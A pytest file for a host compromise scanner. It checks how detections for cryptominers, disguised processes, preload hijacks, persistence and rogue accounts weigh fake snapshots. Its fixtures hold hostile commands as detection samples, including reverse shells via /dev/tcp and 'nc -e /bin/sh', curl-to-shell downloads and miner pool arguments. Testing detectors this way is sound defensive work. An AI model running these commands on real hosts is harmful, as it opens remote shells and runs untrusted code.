"""Each check on a dishonest subject and on the honest one that looks like it."""

from dataclasses import replace
from ipaddress import ip_address

import pytest

from scanner.core.ports import Transport
from scanner.host.check import Weight, load_checks
from scanner.host.snapshot import (
    Account,
    Container,
    CpuUse,
    Hashes,
    History,
    HistoryState,
    Line,
    Listed,
    Process,
    Snapshot,
    Socket,
    StartUp,
    State,
)

CHECKS = {check.id: check for check in load_checks()}
S, W, N = Weight.STRONG, Weight.WEAK, Weight.NOTE
BUSY = CpuUse(recent=0.99, life=0.97, age_s=600, of_all_recent=0.5)
YOUNG = CpuUse(recent=0.99, life=0.97, age_s=5, of_all_recent=0.5)


def proc(**fields):
    return Snapshot(root=True, processes=(Process(**{"pid": 7, "name": "x", "sockets_seen": True, **fields}),))


def wired(*argv, executable="/usr/bin/bash", standard=(5, 5, 5), peer="203.0.113.9", **fields):
    """Return a program whose input and output are a connection."""
    about = {"argv": argv, "executable": executable, "standard": standard, "sockets": frozenset({5}), **fields}
    socket = Socket(
        address=ip_address("10.0.0.5"),
        port=40000,
        transport=Transport.TCP,
        state=State.ESTABLISHED,
        inode=5,
        peer=ip_address(peer),
        peer_port=443,
    )
    return Snapshot(processes=(Process(pid=7, sockets_seen=True, **about),), sockets=(socket,))


def talks(address, port, fields=None, **changes):
    socket = Socket(
        address=ip_address("10.0.0.5"),
        port=40000,
        transport=Transport.TCP,
        state=State.ESTABLISHED,
        inode=5,
        peer=ip_address(address),
        peer_port=port,
    )
    process = Process(**{"pid": 7, "name": "x", "sockets": frozenset({5}), "sockets_seen": True, **(fields or {})})
    return Snapshot(processes=(process,), sockets=(socket,), **changes)


def listens(*, held=True, root=True, seen=True, port=4444):
    address = ip_address("0.0.0.0")
    one = Socket(address=address, port=port, transport=Transport.TCP, state=State.LISTEN, inode=5)
    held_by = frozenset({5} if held else ())
    return Snapshot(root=root, processes=(Process(pid=7, sockets=held_by, sockets_seen=seen),), sockets=(one,))


def starts(kind, command, file="/etc/x"):
    return Snapshot(start_up=(StartUp(kind=kind, file=file, line=3, command=command),))


def box(**fields):
    about = {"id": "a" * 64, "name": "web", "engine": "docker", "image": "nginx:1", "command": "nginx", "running": True}
    return Snapshot(containers=(Container(**{**about, **fields}),))


TOP = {"executable": "/usr/bin/top", "argv": ("top", "-o", "stratum+tcp://x:3333")}
TABLE = [
    ("process-known-name", proc(name="xmrig"), [S]),
    ("process-known-name", proc(argv=("/opt/kinsing",)), [S]),
    ("process-known-name", proc(argv=("a", "-o", "stratum+tcp://pool:3333")), [S]),
    ("process-known-name", proc(name="minerdata", argv=("/usr/bin/minerdata",)), []),
    ("process-known-name", proc(argv=("sh", "-c", "curl a | sh")), []),
    ("process-known-name", proc(executable="/opt/xmrig", argv=("nginx",)), [S]),
    ("process-known-name", proc(executable="/usr/bin/bash", argv=("bash", "/mac.sh")), [S]),
    ("process-known-name", proc(executable="/usr/bin/python3.11", argv=("python3", "/opt/xmrig")), [S]),
    ("process-known-name", proc(argv=("/x", "-o", "pool.minexmr.com:4444")), [S]),
    ("process-known-name", proc(executable="/usr/bin/bash", argv=("bash", "-c", "grep xmrig a; sleep 9")), [W]),
    ("process-known-name", proc(executable="/usr/bin/tar", argv=("tar", "xf", "xmrig-6.tar")), [W]),
    ("process-known-name", proc(executable="/usr/bin/grep", argv=("grep", "-r", "xmrig", "/")), [N]),
    ("process-known-name", proc(executable="/usr/bin/grep", argv=("grep", "stratum+tcp://")), [N]),
    ("process-known-name", proc(executable="/v/bin/python3.11", argv=("python", "/v/bin/pytest", "-k", "minerd")), [N]),
    ("process-known-name", proc(executable="/tmp/grep", argv=("xmrig",)), [S]),
    ("process-known-name", proc(executable="/tmp/.x/grep", argv=("grep", "stratum+tcp://")), [S]),
    ("process-known-name", proc(executable="/usr/bin/grep", deleted=True, argv=("grep", "stratum+tcp://")), [S]),
    ("process-known-name", proc(executable="/bin/python3", argv=("python", "/x/pytest", "stratum+tcp://")), [S]),
    ("process-known-name", talks("8.8.4.4", 3333, TOP), [S]),
    ("process-known-name", talks("8.8.4.4", 443, TOP), [N]),
    ("process-known-name", proc(argv=("svc", "-a", "rx/0", "-o", "x:443")), [S]),
    (
        "process-known-name",
        proc(
            argv=(
                "svc",
                "-u",
                "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
            )
        ),
        [S],
    ),
    ("process-known-name", proc(executable="/opt/lolMiner"), [S]),
    ("process-command", proc(argv=("sh", "-c", "echo c2xlZXA= | base64 -d | sh")), [W]),
    ("process-command", proc(argv=("bash", "-c", "curl http://a/x | bash; chattr +i /etc/crontab")), [W, W]),
    ("process-command", proc(argv=("bash", "-c", "echo of many lines\ncurl http://a/x | bash")), []),
    ("process-command", proc(executable="/usr/bin/grep", argv=("grep", "curl a | sh")), []),
    ("process-shell-connected", wired("bash", "-i"), [S]),
    ("process-shell-connected", wired("sh"), [S]),
    ("process-shell-connected", wired("sshd", "-i", executable="/usr/bin/dash"), [S]),
    ("process-shell-connected", wired("bash", "-i", peer="127.0.0.1"), [W]),
    ("process-shell-connected", wired("bash", "/usr/lib/answer.sh"), []),
    ("process-shell-connected", wired("/bin/sh", "-i", executable="/bin/busybox"), [S]),
    ("process-shell-connected", wired("busybox", "ash", executable="/bin/busybox"), [S]),
    ("process-shell-connected", wired("httpd", "-i", executable="/bin/busybox"), []),
    ("process-shell-connected", wired("busybox", "httpd", "-i", executable="/bin/busybox"), []),
    ("process-shell-connected", wired("bash", "-c", "rsync --server"), []),
    ("process-shell-connected", wired("bash", "-i", standard=(5,)), []),
    ("process-shell-connected", wired("bash", "-i", standard=(6, 6, 6)), []),
    ("process-shell-connected", wired("python3", "-c", "x", executable="/usr/bin/python3.11"), []),
    (
        "process-shell-connected",
        replace(
            found := wired("python3", "-c", "x", executable="/usr/bin/python3.11"),
            processes=(*found.processes, Process(pid=8, parent=7, argv=("/bin/sh",), executable="/bin/sh")),
        ),
        [S],
    ),
    ("process-disguised-as-kernel", proc(name="kworker/0:1", executable="/tmp/x"), [S]),
    ("process-disguised-as-kernel", proc(argv=("[kthreadd]",)), [S]),
    ("process-disguised-as-kernel", proc(name="kworker/0:1", kernel=True), []),
    ("process-disguised-as-kernel", proc(name="kworkers", argv=("/usr/bin/kworkers",)), []),
    ("process-disguised-as-kernel", proc(argv=("[celeryd: worker]",)), []),
    ("process-disguised-as-kernel", proc(argv=("[kworker/u8:3-events_unbound]", "-c", "x")), [S]),
    ("process-disguised-as-kernel", proc(argv=("kworker/u8:3",)), [S]),
    ("process-disguised-as-kernel", proc(argv=("[nfsd]",)), [S]),
    ("process-disguised-as-kernel", proc(name="nfsd", argv=("/usr/sbin/nfsd",)), []),
    ("process-disguised-as-kernel", proc(argv=("[sshd]",)), [W]),
    (
        "process-disguised-as-kernel",
        Snapshot(processes=(Process(pid=2, name="odd_wq/7", kernel=True), Process(pid=7, argv=("[odd_wq/12]",)))),
        [S],
    ),
    ("process-hidden-by-mount", proc(covered=True), [S]),
    ("process-hidden-by-mount", proc(), []),
    ("process-hidden", proc(unlisted=True), [S]),
    ("process-hidden", proc(), []),
    ("process-no-command-line", proc(silent=True), [W]),
    ("process-no-command-line", proc(silent=True, kernel=True), []),
    ("process-no-command-line", proc(silent=True, zombie=True), []),
    ("process-executable-deleted", proc(executable="/tmp/x", deleted=True), [S]),
    ("process-executable-deleted", proc(executable="/usr/bin/x", deleted=True), [W]),
    ("process-executable-deleted", proc(executable="/usr/bin/x", deleted=True, replaced=True), [N]),
    ("process-executable-deleted", proc(executable="/usr/bin/x"), []),
    ("process-executable-in-memory", proc(executable="/memfd:x", deleted=True), [W]),
    ("process-executable-in-memory", proc(executable="/memfd:x", deleted=True, sealed=True, argv=("x",)), [N]),
    ("process-executable-in-memory", proc(executable="/memfd:x", deleted=True, sealed=True, silent=True), [W]),
    ("process-executable-in-memory", proc(executable="/memfd:runc_cloned:/proc/self/exe", deleted=True), [N]),
    ("process-executable-in-temporary-folder", proc(executable="/tmp/x"), [W]),
    ("process-executable-in-temporary-folder", proc(executable="/opt/.../x"), [S]),
    ("process-executable-in-temporary-folder", proc(executable="/opt/.. /x"), [S]),
    ("process-executable-in-temporary-folder", proc(executable="/home/a/ mine/x"), [W]),
    ("process-executable-in-temporary-folder", proc(executable="/home/a/My Programs/v1.2/x"), []),
    ("process-executable-in-temporary-folder", proc(executable="/tmp/.mount_a/x", fuse="/tmp/.mount_a"), [N]),
    ("process-executable-in-temporary-folder", proc(executable="/home/a/.pyenv/bin/python"), []),
    ("process-cpu", proc(cpu=BUSY), [W]),
    ("process-cpu", proc(cpu=CpuUse(recent=0.2, life=0.6, age_s=600, of_all_recent=0.4)), [W]),
    ("process-cpu", proc(cpu=CpuUse(recent=0.99, life=0.99, age_s=30, of_all_recent=0.5)), []),
    ("process-cpu", proc(cpu=YOUNG, silent=True), [W]),
    ("process-cpu", proc(cpu=YOUNG, executable="/memfd:x", deleted=True), [W]),
    ("process-cpu", proc(cpu=YOUNG, executable="/var/tmp/.x/y"), [W]),
    ("process-cpu", proc(cpu=YOUNG, executable="/tmp/a.out"), []),
    ("process-cpu", proc(cpu=YOUNG, executable="/usr/bin/x", deleted=True, replaced=True), []),
    ("process-cpu", proc(cpu=CpuUse(recent=0.99, life=0.1, age_s=600, of_all_recent=0.5)), []),
    ("process-cpu", proc(cpu=BUSY, executable="/usr/bin/cc1plus"), []),
    ("connection-to-pool-port", talks("8.8.4.4", 3333), [W]),
    ("connection-to-pool-port", talks("8.8.4.4", 443), []),
    ("connection-to-pool-port", talks("203.0.113.7", 3333), [W]),
    ("connection-to-pool-port", talks("10.0.0.9", 3333), []),
    ("connection-to-pool-port", talks("127.0.0.1", 3333), []),
    ("connection-listed", talks("8.8.4.4", 443, listed=Listed(addresses=frozenset({"8.8.4.4"}))), [S]),
    ("connection-listed", talks("10.1.2.3", 1, listed=Listed(networks=("10.1.0.0/16",))), [S]),
    ("connection-listed", talks("10.2.2.3", 1, listed=Listed(networks=("10.1.0.0/16",))), []),
    ("listener-without-process", listens(held=False), [W]),
    ("listener-without-process", listens(held=False, port=2049), [N]),
    ("listener-without-process", listens(held=False, root=False), []),
    ("listener-without-process", listens(held=False, seen=False), []),
    ("listener-without-process", listens(), []),
    ("preload-everywhere", Snapshot(preloads=(Line(file="/etc/ld.so.preload", line=1, text="/lib/x.so"),)), [S]),
    (
        "preload-everywhere",
        Snapshot(preloads=(Line(file="/etc/ld.so.preload", line=1, text="/usr/lib/libjemalloc.so.2"),)),
        [N],
    ),
    (
        "preload-everywhere",
        Snapshot(preloads=(Line(file="/etc/ld.so.preload", line=1, text="/tmp/libjemalloc.so"),)),
        [S],
    ),
    ("preload-environment", proc(preload="/tmp/x.so"), [W]),
    ("preload-environment", proc(preload="/usr/lib/libjemalloc.so.2"), [N]),
    ("library-from-temporary-folder", proc(libraries=("/tmp/x.so",)), [W]),
    ("library-from-temporary-folder", proc(libraries=("/tmp/jna-1/x.so",)), [N]),
    ("library-from-temporary-folder", proc(executable="/tmp/root/bin/sh", libraries=("/tmp/root/lib/c.so",)), [N]),
    ("library-from-temporary-folder", proc(executable="/tmp/root/bin/sh", libraries=("/tmp/x/c.so",)), [W]),
    ("library-from-temporary-folder", proc(executable="/tmp/.x/run", libraries=("/tmp/.x/c.so",)), [W]),
    ("library-from-temporary-folder", proc(executable="/dev/shm/b", libraries=("/dev/shm/lib.so",)), [W]),
    ("start-up-command", starts("cron", "/mac.sh"), [S]),
    ("start-up-command", starts("cron", "curl http://a/x | sh; chattr +i /etc/crontab"), [W, W]),
    ("start-up-command", starts("cron", "/usr/bin/certbot renew"), []),
    ("start-up-command", starts("cron", "curl -fsSL http://198.51.100.7/x.sh | sh"), [S]),
    ("start-up-command", starts("cron", "wget -qO- https://pastes.example.org/x | bash"), [S]),
    ("start-up-command", starts("systemd unit", '/bin/bash -c "$(curl -fsSL https://a.example.org/x)"'), [S]),
    ("start-up-command", starts("init script", "curl -s http://169.254.169.254/latest/user-data | bash"), [W]),
    ("start-up-command", starts("cron", "curl -s http://deploy.corp/run | sh"), [W]),
    ("start-up-command", starts("shell profile", "curl -fsSL https://get.example.org | sh"), [S]),
    ("start-up-command", starts("shell profile", "curl -fsSL https://get.example.org | sh", file="/root/.zshrc"), [W]),
    ("start-up-command", starts("shell profile", "echo c2xlZXA= | base64 -d | sh"), [S]),
    ("start-up-command", starts("cron", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"), [S, W]),
    ("start-up-command", starts("systemd unit", "/bin/bash -c '</dev/tcp/db/5432'"), [W]),
    (
        "start-up-command",
        starts("systemd unit", "/bin/sh -c 'curl -Lo /opt/bin/x https://a.example.org/x && chmod 755 /opt/bin/x'"),
        [W],
    ),
    ("start-up-command", starts("at job", "nc -e /bin/sh 198.51.100.7 4444"), [S]),
    ("start-up-path", starts("udev rule", 'ACTION=="add", RUN+="/tmp/x"'), [W]),
    ("start-up-path", starts("udev rule", 'RUN+="/usr/bin/x"'), []),
    ("start-up-path", starts("shell profile", "nohup /dev/shm/.x/run &"), [S]),
    ("start-up-path", starts("shell profile", "/root/.local/bin/tool"), []),
    ("start-up-path", starts("shell profile", "[ -f /tmp/x ] && rm /tmp/x"), []),
    ("start-up-path", starts("systemd generator", "/tmp/x a"), [W]),
    ("start-up-path", starts("systemd generator", "/usr/lib/systemd/system-generators/x"), []),
    ("start-up-path", starts("cron script", "exec sh /var/tmp/x"), [W]),
    ("start-up-path", starts("cron", "/tmp/.x/run >/dev/null"), [S]),
    ("start-up-path", starts("cron", "/tmp/run >/dev/null"), [W]),
    ("start-up-path", starts("systemd unit", "/var/tmp/x"), [W]),
    ("start-up-path", starts("cron", "/usr/bin/backup --log /tmp/backup.log"), []),
    ("start-up-path", starts("systemd user unit", "/home/a/.local/bin/x"), []),
    ("key-authorized", Snapshot(keys=(Line(file="/k", line=1, text="ssh-ed25519 AAA a@b", user="root"),)), [N]),
    (
        "key-authorized",
        Snapshot(keys=(Line(file="/k", line=1, text='command="curl a" ssh-rsa AAA a', user="root"),)),
        [W],
    ),
    (
        "key-authorized",
        Snapshot(keys=tuple(Line(file="/k", line=n, text=t) for n, t in enumerate(("REDIS0009", "ssh-rsa AAA a")))),
        [S],
    ),
    ("user-added", Snapshot(accounts=(Account(name="x", uid=0, line=2, shell="/bin/sh", home="/"),)), [S]),
    ("user-added", Snapshot(accounts=(Account(name="root", uid=0, line=1, shell="/bin/sh", home="/"),)), []),
    (
        "user-added",
        Snapshot(accounts=(Account(name="x", uid=9, line=2, shell="/bin/sh", home="/", no_password=True),)),
        [W],
    ),
    (
        "user-added",
        Snapshot(accounts=(Account(name="x", uid=9, line=2, shell="/bin/false", home="/", no_password=True),)),
        [],
    ),
    (
        "user-added",
        Snapshot(accounts=(Account(name="x", uid=0, line=2, shell="/tmp/notfalse", home="/"),)),
        [S],
    ),
    (
        "history-wiped",
        Snapshot(histories=(History(file="/root/.bash_history", user="root", state=HistoryState.LINKED_AWAY),)),
        [W],
    ),
    ("history-command", Snapshot(history_lines=(Line(file="/h", line=4, text="./xmrig -o pool"),)), [W]),
    ("history-command", Snapshot(history_lines=(Line(file="/h", line=4, text="ls"),)), []),
    ("file-immutable", Snapshot(immutable=("/etc/crontab",)), [W]),
    ("container-known", box(image="heybb/theimg2:latest"), [S]),
    ("container-known", box(command="/mac.sh"), [S]),
    ("container-known", box(mounts=("/:/mnt",), command="chroot /mnt sh"), [W, W]),
    ("container-known", box(), []),
    ("container-powers", box(privileged=True, mounts=("/:/host",)), [W]),
    ("container-powers", box(privileged=True), [N]),
    ("container-powers", box(host_namespaces=("network",)), [N]),
    ("container-cpu", box(cpu=BUSY), [W]),
    ("container-cpu", box(), []),
    (
        "image-listed",
        box(
            image="bad/x:1",
        ),
        [],
    ),
    (
        "process-hash",
        Snapshot(processes=(Process(pid=7),), hashes={7: Hashes(sha256="a" * 64, md5="b" * 32, size=1)}),
        [N],
    ),
    (
        "executable-listed",
        Snapshot(
            processes=(Process(pid=7),),
            hashes={7: Hashes(sha256="a" * 64, md5="b" * 32, size=1)},
            listed=Listed(hashes=frozenset({"b" * 32})),
        ),
        [S],
    ),
    (
        "image-listed",
        Snapshot(
            containers=(Container(id="a", name="w", engine="docker", image="bad/x:1", command="", running=True),),
            listed=Listed(images=frozenset({"bad/x"})),
        ),
        [S],
    ),
]


@pytest.mark.parametrize(("check", "snapshot", "weights"), TABLE)
def test_what_a_check_says(check, snapshot, weights):
    assert [sign.weight for sign in CHECKS[check].ask(snapshot)] == weights


def test_every_check_is_in_the_table_with_a_dishonest_subject():
    assert {check for check, _, weights in TABLE if weights} == set(CHECKS)


@pytest.mark.parametrize("check", CHECKS.values(), ids=lambda check: check.id)
def test_a_check_says_what_it_reads_and_when_it_is_wrong(check):
    assert all((check.reads, check.proves, check.wrong, check.title))
    assert check.decide.format(pid=1, path="/x", name="n", file="/f")
    assert list(check.ask(Snapshot())) == []
